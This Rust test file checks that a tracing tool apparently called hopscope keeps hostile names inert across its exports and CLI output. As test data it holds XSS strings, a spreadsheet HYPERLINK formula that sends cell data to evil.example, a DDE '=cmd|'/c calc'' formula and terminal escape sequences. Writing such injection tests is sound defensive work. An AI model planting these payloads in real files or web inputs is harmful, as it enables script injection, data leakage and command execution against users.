//! Names that are markup, formulas or control characters: as they are in every format where they are texts, computed and obeyed
//! nowhere.

use anyhow::{Context as _, Result, ensure};
use hopscope_record::decoder::Framing;
use hopscope_tests::command::{Ended, hopscope};
use hopscope_tests::fields::perfetto_agrees;
use hopscope_tests::recording::Recorded;
use hopscope_tests::server::Server;
use serde_json::{Value, json};

use crate::support::{HELLO, ask, code, get, ran};

/// Names that a scenario may have: texts like any other.
pub(crate) const MARKUP: [&str; 4] = [
    "<img src=x onerror=\"window.pwned=1\">",
    "</title><script>window.pwned=1</script>",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "{{7*7}}${7*7}%n%s'\";--",
];

/// What steers a terminal: a title, a cleared screen, by ESC and by the single sign for it, a link, a line written over.
const STEERING: &str = "a\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}2J\u{8}\r\u{7f}\u{85}b";

/// The template with names that are markup.
pub(crate) fn marked() -> Result<Value> {
    let mut scenario: Value = serde_json::from_str(HELLO)?;
    scenario["name"] = MARKUP[0].into();
    scenario["question"] = MARKUP[1].into();
    scenario["about"] = MARKUP.join("\n").into();
    scenario["nodes"][0]["name"] = MARKUP[1].into();
    scenario["nodes"][0]["load"] = json!({"kind": "constant", "rate": "100/s", "count": 5});
    scenario["nodes"][1]["name"] = MARKUP[2].into();
    // An id may begin with a sign that tables take for a formula.
    scenario["nodes"][1]["id"] = "-n2".into();
    scenario["links"][0]["to"] = "-n2".into();
    scenario["links"][0]["id"] = "-l1".into();
    Ok(scenario)
}

/// The recording of such a run, altered by hand: a kind and an error whose names no run has.
pub(crate) fn altered(mut document: Value, error: &str) -> Result<Value> {
    let formula = format!("=cmd|'/c calc'!A1{error}");
    document["names"].as_array_mut().context("no names")?.extend([Value::from(error), Value::from(formula.as_str())]);
    document["run"]["kinds"][&formula] = 60_000.into();
    document["run"]["build"] = error.into();
    document["run"]["id"] = error.into();
    let events = document["events"].as_array_mut().context("no events")?;
    let sent = events.iter().position(|event| event["kind"] == "Completed").context("nothing was completed")?;
    let mut failed = events[sent].clone();
    let fields = failed.as_object_mut().context("no object")?;
    fields.shift_remove("bytes");
    fields.insert("kind".to_owned(), "Failed".into());
    fields.insert("error".to_owned(), error.into());
    events[sent] = failed;
    let last = events.last().and_then(|event| event["time_ns"].as_i64()).context("no time")?;
    let zeros = "0000000000000000";
    events.push(json!({"time_ns": last, "kind": formula, "node": "n1", "instance": "client", "a": zeros, "b": zeros}));
    Ok(document)
}

/// Whether a text has what steers a terminal; line ends and, in tables and JSON, nothing else.
fn steers(text: &str) -> Option<char> {
    text.chars().find(|c| c.is_control() && *c != '\n')
}

fn harmless(ended: &Ended) -> Result<()> {
    for stream in [&ended.stdout, &ended.stderr] {
        ensure!(steers(stream).is_none(), "{:?} reached the terminal: {stream:?}", steers(stream));
    }
    Ok(())
}

async fn export(server: &Server, id: &str, format: &str) -> Result<Vec<u8>> {
    get(server, &format!("/api/runs/{id}/export?format={format}")).await
}

/// The cells of a table, by the rules of RFC 4180.
fn cells(table: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted, mut signs) = (Vec::new(), String::new(), false, table.chars().peekable());
    while let Some(sign) = signs.next() {
        match sign {
            '"' if quoted && signs.peek() == Some(&'"') => cell.extend(signs.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            sign => cell.push(sign),
        }
    }
    cells
}

/// That no program for tables computes a cell: but for a number below 0 none begins with a sign of a formula.
fn computes_nothing(table: &[u8]) -> Result<()> {
    let table = std::str::from_utf8(table)?;
    ensure!(steers(table).is_none(), "{:?} is in a table", steers(table));
    for cell in cells(table) {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<i64>().is_err();
        ensure!(!formula, "{cell:?} would be computed");
    }
    Ok(())
}

#[tokio::test]
async fn markup_is_a_text_in_every_format() -> Result<()> {
    let server = Server::start().await?;
    let scenario = marked()?;
    let id = ran(&server, &scenario, "1 s").await?;
    let view: Value = serde_json::from_slice(&get(&server, &format!("/api/runs/{id}")).await?)?;
    assert_eq!((&view["name"], &view["scenario"]), (&MARKUP[0].into(), &MARKUP[0].into()));
    let document: Value = serde_json::from_slice(&export(&server, &id, "json").await?)?;
    for at in ["/name", "/about", "/nodes/0/name", "/nodes/1/name"] {
        assert_eq!(document["scenario"].pointer(at), scenario.pointer(at), "{at}");
    }
    let recorded = Recorded::read(&get(&server, &format!("/api/runs/{id}/recording")).await?, Framing::File)?;
    perfetto_agrees(&export(&server, &id, "perfetto").await?, &recorded)?;
    for format in ["csv", "csv-messages"] {
        let table = export(&server, &id, format).await?;
        computes_nothing(&table)?;
        let found = cells(std::str::from_utf8(&table)?);
        ensure!(["'-n2", "'-l1"].iter().all(|cell| found.iter().any(|other| other == cell)), "{format}: {found:?}");
    }
    // No browser takes an answer for a page: it is told what it is, and nothing else.
    for path in ["", "/recording", "/export?format=json", "/export?format=csv", "/export?format=perfetto"] {
        let reply = ask(&server, &format!("GET /api/runs/{id}{path}"), b"").await?;
        let media_type = reply.header("content-type").context("no type")?;
        ensure!(!media_type.contains("html") && !media_type.contains("xml"), "{path}: {media_type}");
        ensure!(reply.header("x-content-type-options") == Some("nosniff"), "{path} may be taken for a page");
    }
    let reply = ask(&server, "GET /api/%3Cscript%3Ealert(1)%3C/script%3E", b"").await?;
    ensure!(reply.header("content-type").is_some_and(|media_type| media_type.starts_with("application/json")));
    Ok(())
}

#[tokio::test]
async fn control_characters_are_in_no_name() -> Result<()> {
    let server = Server::start().await?;
    let scenario: Value = serde_json::from_str(HELLO)?;
    let id = ran(&server, &scenario, "200 ms").await?;
    for at in ["/name", "/nodes/0/name", "/nodes/1/name", "/question"] {
        for c in ['\u{1b}', '\u{7}', '\0', '\r', '\u{7f}', '\u{9b}', '\t'] {
            let mut scenario = scenario.clone();
            *scenario.pointer_mut(at).context("no such field")? = format!("a{c}b").into();
            let body = json!({ "scenario": scenario }).to_string();
            let reply = ask(&server, "POST /api/runs", body.as_bytes()).await?;
            assert_eq!((reply.status, code(&reply.body)?.as_str()), (422, "control-character"), "{at} {c:?}");
            let rename = json!({"name": format!("a{c}b")}).to_string();
            let reply = ask(&server, &format!("PATCH /api/runs/{id}"), rename.as_bytes()).await?;
            assert_eq!((reply.status, code(&reply.body)?.as_str()), (422, "bad-run-name"), "{c:?}");
            let line = format!("POST /api/runs/import?name=a%{:02x}b", u32::from(c).min(0x7f));
            let reply = ask(&server, &line, b"{}").await?;
            assert_eq!((reply.status, code(&reply.body)?.as_str()), (422, "bad-run-name"), "{c:?}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn an_imported_text_steers_no_terminal_and_is_computed_by_no_table() -> Result<()> {
    let server = Server::start().await?;
    let id = ran(&server, &marked()?, "1 s").await?;
    let document = altered(serde_json::from_slice(&export(&server, &id, "json").await?)?, STEERING)?;
    let folder = tempfile::tempdir()?;
    let file = folder.path().join("altered.json");
    std::fs::write(&file, document.to_string())?;
    let data = server.data().display().to_string();
    let file = file.display().to_string();
    let imported = hopscope(["import", &file, "--data", &data]).await?;
    ensure!(imported.code == 0, "{imported:?}");
    harmless(&imported)?;
    let copy = imported.stdout.split("as run ").nth(1).and_then(|rest| rest.get(..20)).context("no id")?.to_owned();

    for format in ["csv", "csv-messages"] {
        let table = export(&server, &copy, format).await?;
        computes_nothing(&table)?;
        ensure!(std::str::from_utf8(&table)?.contains("a\u{fffd}]0;pwned"), "{format} has no error");
        let printed = hopscope(["export", &copy, "--format", format, "--data", &data]).await?;
        harmless(&printed)?;
        ensure!(printed.stdout.as_bytes() == table, "{format}");
    }
    // JSON holds the very text, in escapes alone.
    let printed = hopscope(["export", &copy, "--format", "json", "--data", &data]).await?;
    harmless(&printed)?;
    let back: Value = serde_json::from_str(&printed.stdout)?;
    assert_eq!((&back["events"], &back["names"]), (&document["events"], &document["names"]));
    ensure!(export(&server, &copy, "perfetto").await?.windows(10).any(|part| part == b"=cmd|'/c c"), "no such kind");
    for arguments in [&["runs"][..], &["compare", &id, &copy], &["compare", &id, &copy, "--json"]] {
        let ended = hopscope(arguments.iter().copied().chain(["--data", &data])).await?;
        ensure!(!ended.stdout.is_empty(), "{arguments:?}: {ended:?}");
        harmless(&ended)?;
    }
    Ok(())
}

#[tokio::test]
async fn a_document_steers_no_terminal_where_its_faults_are_told() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let file = folder.path().join("scenario.json");
    let mut scenario: Value = serde_json::from_str(HELLO)?;
    scenario["name"] = STEERING.into();
    scenario[STEERING] = STEERING.into();
    scenario["nodes"][0]["id"] = STEERING.into();
    scenario["nodes"][0]["load"]["rate"] = STEERING.into();
    scenario["nodes"][1]["kind"] = STEERING.into();
    scenario["links"][0]["protocol"] = format!("{STEERING}\u{202e}").into();
    std::fs::write(&file, scenario.to_string())?;
    let data = folder.path().join("runs").display().to_string();
    let file = file.display().to_string();
    for arguments in [&["validate", &file][..], &["run", &file, "--data", &data], &["import", &file, "--data", &data]] {
        let ended = hopscope(arguments).await?;
        ensure!(ended.code == 3 && ended.stdout.len() + ended.stderr.len() > 100, "{ended:?}");
        harmless(&ended)?;
        ensure!(!format!("{}{}", ended.stdout, ended.stderr).contains('\u{202e}'), "{ended:?}");
    }
    // Names that are markup in the reports that others show: as Markdown and as XML.
    std::fs::write(&file, marked()?.to_string())?;
    let xml = folder.path().join("report.xml").display().to_string();
    let ended = hopscope(["run", &file, "--data", &data, "--summary", "md", "--junit", &xml]).await?;
    let told = ended.stdout.replace("\\<", "");
    ensure!(ended.code == 0 && told != ended.stdout && !told.contains('<'), "{ended:?}");
    let xml = std::fs::read_to_string(xml)?;
    ensure!(!xml.contains("<img") && xml.contains("&lt;img"), "{xml}");
    Ok(())
}
